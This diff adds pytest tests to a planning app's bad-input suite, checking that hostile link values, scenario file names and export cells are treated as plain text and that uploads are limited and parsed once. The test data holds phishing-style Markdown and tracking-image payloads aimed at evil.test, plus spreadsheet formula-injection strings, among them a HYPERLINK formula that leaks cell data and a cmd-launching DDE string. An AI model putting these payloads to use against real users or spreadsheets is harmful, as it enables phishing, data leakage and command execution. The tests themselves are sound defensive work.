@@ -1,20 +1,30 @@
 """The bad-input catalogue (docs/bad-input.md): the rows not covered elsewhere.
 
 Links: repeated keys, a 10,000-character value; files: markup and very long non-Latin
-names; extreme but valid scenarios. Plus property-based tests of the link decoder.
+names; extreme but valid scenarios. Plus property-based tests of the link decoder, and
+issue #11 ("Injection and exhaustion"): text from outside never reaches Markdown or a
+spreadsheet formula, link values the sliders do not hold are named, uploads are bounded
+and parsed once.
 """
 
 from __future__ import annotations
 
+import io
 import math
+import re
 
+import openpyxl
+import pandas as pd
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from model import ALL_SETTINGS, LEVERS
+from model import ALL_SETTINGS, LEVERS, run_scenarios
 from scenarios import Scenario, dump_scenario
 from tests.app.test_app import goto, metric_number, new_app, no_exception
+from ui import exports
+from ui import files as ui_files
+from ui.compute import _result
 from ui.links import format_value, value_problem
 
 
@@ -31,6 +41,8 @@ def test_repeated_link_keys_warn_and_fall_back() -> None:
     no_exception(at)
     warnings = " ".join(w.value for w in at.warning)
     assert "infrastructure_spend" in warnings, f"no warning for a repeated key: {warnings!r}"
+    assert "given 2 times" in warnings, f"the repetition is not named: {warnings!r}"
+    assert '"900" is not allowed' not in warnings and "`900`" not in warnings
     assert at.slider(key="infrastructure_spend").value == 0
     assert at.slider(key="sme_support").value == 100
 
@@ -121,3 +133,185 @@ def test_file_errors_speak_the_planners_language(lang: str, words: tuple[str, st
     message = " ".join(e.value for e in at.error)
     assert words[1] in message and "million som" not in message, message
 
+
+
+# --- issue #11: injection and exhaustion ---------------------------------------------------
+
+#: The link from the issue: a fake "Session expired" heading, a phishing link and an
+#: image that tells evil.test the visitor's address, hidden in the model version.
+HOSTILE_V = ("0\n\n# Session expired\n\n[Sign in again](http://evil.test/phish)\n\n"
+             "![](http://evil.test/pixel.gif)")
+HOSTILE_MD = "![n](http://evil.test/name.png) **Sign in** [here](http://evil.test/x) :red[!]"
+EVIL = "evil.test"
+MARKDOWN_KINDS = ("markdown", "caption", "title", "header", "subheader", "warning", "error",
+                  "info", "success", "toast")
+
+
+def outside_code_spans(markdown: str) -> str:
+    """The Markdown with its inline code spans (shown literally) removed."""
+    return re.sub(r"(`+)(.+?)\1", " ", markdown, flags=re.S)
+
+
+def markdown_texts(at) -> list[str]:
+    """Every string this run hands to Streamlit as Markdown: elements, button labels,
+    table headers and cells."""
+    texts = [str(e.value) for kind in MARKDOWN_KINDS for e in at.get(kind)]
+    texts += [b.label for b in at.button]
+    for table in at.table:
+        frame = table.value
+        texts += [str(c) for c in frame.columns]
+        texts += [str(v) for v in frame.to_numpy().ravel()]
+    return texts
+
+
+def shown_only_as_text(at, needle: str = EVIL) -> int:
+    """``needle`` (outside text) reaches Markdown only inside code spans; returns how
+    often it was shown (so a test can require that it was shown at all)."""
+    shown = 0
+    for text in markdown_texts(at):
+        assert needle not in outside_code_spans(text), f"rendered as Markdown: {text!r}"
+        shown += needle in text
+    return shown
+
+
+@pytest.mark.parametrize(("query", "needle"), [
+    ({"v": HOSTILE_V}, "Session expired"),  # shown cut to 20 characters
+    ({"sme_support": "![](http://evil.test/p.gif)"}, EVIL),
+    ({"budget": "[x](http://evil.test/b)"}, EVIL),
+    ({"year": "<img src=http://evil.test/y.gif>"}, EVIL),
+])
+def test_hostile_link_values_are_shown_as_text(query: dict[str, str], needle: str) -> None:
+    at = new_app(**query)
+    no_exception(at)
+    assert shown_only_as_text(at, needle) >= 1, "the refused value is not shown at all"
+    shown_only_as_text(at, EVIL)  # nor anything else of it as Markdown
+    headings = [h.value for h in (*at.title, *at.header, *at.subheader)]
+    assert not any("Session expired" in h for h in headings)
+
+
+def hostile_scenario_file() -> tuple[str, bytes]:
+    s = Scenario.from_settings({"sme_support": 60.0}, name=HOSTILE_MD[:120],
+                               description="# Session expired\n\n" + HOSTILE_MD)
+    return "![n](http:__evil.test_name.png).toml", dump_scenario(s).encode()
+
+
+def test_hostile_file_name_and_text_are_shown_as_text_on_every_page() -> None:
+    """Upload card, flash message, scenario subtitle, Compare headers and buttons."""
+    name, data = hostile_scenario_file()
+    at = goto(new_app(), "files")
+    at.file_uploader(key="upload").set_value((name, data, "application/toml")).run()
+    no_exception(at)
+    assert shown_only_as_text(at) == 0, "before Apply, nothing reaches Markdown"
+    assert any(EVIL in t.value for t in at.text), "the card does not show the name"
+    at.button(key="apply_0").click().run()
+    no_exception(at)
+    assert shown_only_as_text(at) >= 1  # the flash message names the file
+    at = goto(at, "scenario")
+    assert at.slider(key="sme_support").value == 60
+    assert shown_only_as_text(at) >= 1  # the subtitle
+    at.text_input(key="pin_name").input("[pin](http://evil.test/pin)").run()
+    at.button(key="pin_button").click().run()
+    assert shown_only_as_text(at) >= 1  # "pinned" flash
+    at = goto(at, "files")
+    at.file_uploader(key="upload").set_value((name, data, "application/toml")).run()
+    at.button(key="compare_0").click().run()
+    at = goto(at, "compare")
+    no_exception(at)
+    chosen = at.multiselect(key="compare_pick").value
+    assert any(o.startswith("file:") for o in chosen) and any(o.startswith("pin:") for o in chosen)
+    assert shown_only_as_text(at) >= 3  # table headers, unpin button, heading
+
+
+def test_budget_and_year_in_a_link_are_checked_and_named() -> None:
+    """Before, Streamlit dropped them without a word (budget=-5, year=1999) or changed
+    them (budget=1500.5 became 1500)."""
+    for query, key in (({"budget": "-5"}, "budget"), ({"budget": "1500.5"}, "budget"),
+                       ({"budget": "abc"}, "budget"), ({"year": "1999"}, "year"),
+                       ({"year": "2030.5"}, "year")):
+        at = new_app(**query, sme_support="40")
+        no_exception(at)
+        warnings = " ".join(w.value for w in at.warning)
+        assert f"(`{key}`)" in warnings and query[key] in warnings, (query, warnings)
+        assert at.slider(key="sme_support").value == 40, "a good value was lost"
+        assert key not in at.query_params
+    at = new_app(budget="1500.0", year="2030")
+    assert not at.warning and at.number_input(key="budget").value == 1500
+    assert at.selectbox(key="year").value == 2030
+
+
+def test_an_unknown_page_path_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
+    """/bogus runs the main page (Streamlit says so in English only); the planner reads
+    it in their language. The browser test checks the share link drops the path."""
+    from ui import links
+
+    monkeypatch.setattr(links, "requested_page", lambda: "![b](http:__evil.test_p)")
+    at = new_app(lang="ru")
+    no_exception(at)
+    warnings = [w.value for w in at.warning]
+    assert any("страниц" in w for w in warnings), warnings
+    assert shown_only_as_text(at) == 1
+
+
+def _upload_files(n: int) -> list[tuple[str, bytes, str]]:
+    good = dump_scenario(Scenario.from_settings({"sme_support": 10.0}, name="s")).encode()
+    return [(f"s{i}.toml", good, "application/toml") for i in range(n)]
+
+
+def test_an_upload_of_too_many_files_is_refused_whole_and_freed() -> None:
+    at = goto(new_app(sme_support="40"), "files")
+    at.file_uploader(key="upload").set_value(_upload_files(ui_files.MAX_UPLOAD_FILES)).run()
+    no_exception(at)
+    assert len([b for b in at.button if (b.key or "").startswith("apply_")]) == 10
+    at.file_uploader(key="upload").set_value(_upload_files(ui_files.MAX_UPLOAD_FILES + 1)).run()
+    no_exception(at)
+    errors = " ".join(e.value for e in at.error)
+    assert "11" in errors and str(ui_files.MAX_UPLOAD_FILES) in errors, errors
+    assert not [b for b in at.button if (b.key or "").startswith("apply_")]
+    assert at.file_uploader(key="upload_1").value in (None, []), "the widget did not reset"
+    assert at.slider(key="sme_support").value == 40
+
+
+def test_each_upload_is_parsed_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    calls: list[int] = []
+    real = ui_files.load_scenario
+
+    def counting(raw, file_name=None):
+        calls.append(len(raw))
+        return real(raw, file_name)
+
+    monkeypatch.setattr(ui_files, "load_scenario", counting)
+    ui_files._parse.clear()
+    text = dump_scenario(Scenario.from_settings({"sme_support": 70.0}, name="once")).encode()
+    at = goto(new_app(), "files")
+    at.file_uploader(key="upload").set_value(("a.toml", text, "application/toml")).run()
+    for value in (10.0, 20.0, 30.0):  # reruns of the Files page
+        at.slider(key="road_maintenance").set_value(value).run()
+    no_exception(at)
+    assert len(calls) == 1, f"parsed {len(calls)} times over 4 runs"
+    other = goto(new_app(), "files")  # another session, the same file: the shared cache
+    other.file_uploader(key="upload").set_value(("b.toml", text, "application/toml")).run()
+    assert len(calls) == 1 and other.button(key="apply_0")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+
+
+def test_excel_and_csv_store_outside_text_as_text_never_a_formula() -> None:
+    settings = {k: s.default for k, s in ALL_SETTINGS.items()} | {"sme_support": 100.0}
+    result = _result(run_scenarios([settings]), 0)
+    meta = {"name": FORMULAS[0], "description": FORMULAS[1]}
+    book = openpyxl.load_workbook(io.BytesIO(
+        exports.results_xlsx(settings, meta, result, "https://x.example/?v=1", "en")))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the export"
+    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
+    for text in FORMULAS[:2]:
+        cell = by_value[text]  # kept exactly, as text, with Excel's text marker
+        assert cell.data_type == "s" and cell.quotePrefix, (text, cell.data_type)
+    frame = pd.DataFrame({"name": [*FORMULAS, "Roads"], "value": range(7)})
+    safe = exports.text_cells(frame)
+    assert list(safe["name"]) == ["'" + f for f in FORMULAS] + ["Roads"]
+    assert list(safe["value"]) == list(range(7)), "numbers must stay numbers"
+    csv = exports.results_csv(result, "en").decode("utf-8-sig")
+    assert not [line for line in csv.splitlines() if line[:1] in "=+-@\t\r"]
